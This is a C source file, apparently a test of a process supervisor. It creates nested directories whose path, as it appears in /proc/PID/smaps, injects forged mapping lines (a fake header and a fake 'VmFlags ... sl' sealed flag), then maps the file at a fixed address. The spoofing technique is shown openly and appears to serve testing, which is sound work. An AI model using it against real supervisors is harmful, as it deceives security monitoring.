// What the supervisor reads of a mapping in /proc/PID/smaps is written by the kernel, but for the paths of files,
// which can be of any length, and contain what looks like lines about the page.
#include "forge.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

enum {
    /// Where the path begins in a line.
    COLUMN = 73,
    /// So many bytes of a line are taken for a line.
    PIECE = 4999,
    LENGTH = 2 * PIECE + 200 - COLUMN,
};

/// Writes a name into the path at that place of the line.
static void put(char *path, int place, const char *name) {
    memcpy(path + place - COLUMN, name, strlen(name));
}

/// Keeps folders from ending between these places of the line.
static void clear(char *path, int from, int to) {
    memset(path + from - COLUMN, 'x', (size_t)(to - from));
}

/// Maps a file in front of the page whose path says that the page is sealed, and gets rid of the file.
///
/// The path is made of short folders, one in the other, that have the text at the right places.
int map_long_path(void) {
    char path[LENGTH + 1], start[4096];
    memset(path, 'x', LENGTH);
    path[LENGTH] = '\0';
    if (getcwd(start, sizeof start) == NULL) {
        return -1;
    }
    for (int i = (int)strlen(start); i < LENGTH - 100; i += 100) {
        path[i] = '/';
    }
    // Each text is one folder's name, or its beginning.
    clear(path, PIECE - 100, PIECE + 100);
    put(path, PIECE - 1, "/7e000000-7e100000 r--s 00000000 00:01 1 ");
    clear(path, 2 * PIECE - 100, 2 * PIECE + 100);
    put(path, 2 * PIECE - 1, "/VmFlags: rd mr me ms sl ");
    char *name = path + strlen(start) + 1, *end;
    for (; (end = strchr(name, '/')) != NULL; name = end + 1) {
        *end = '\0';
        if (mkdir(name, 0700) == -1 || chdir(name) == -1) {
            perror(name);
            return -1;
        }
    }
    int file = open(name, O_RDWR | O_CREAT | O_EXCL, 0600);
    ftruncate(file, 4096);
    void *place = mmap((void *)0x10000000, 4096, PROT_READ, MAP_PRIVATE | MAP_FIXED_NOREPLACE, file, 0);
    close(file);
    unlink(name);
    // Each name ends with the byte that was a slash.
    while (name > path + strlen(start) + 1) {
        for (name--; name > path + strlen(start) + 1 && name[-1] != '\0';) {
            name--;
        }
        chdir("..");
        rmdir(name);
    }
    return place == (void *)0x10000000 ? 0 : -1;
}
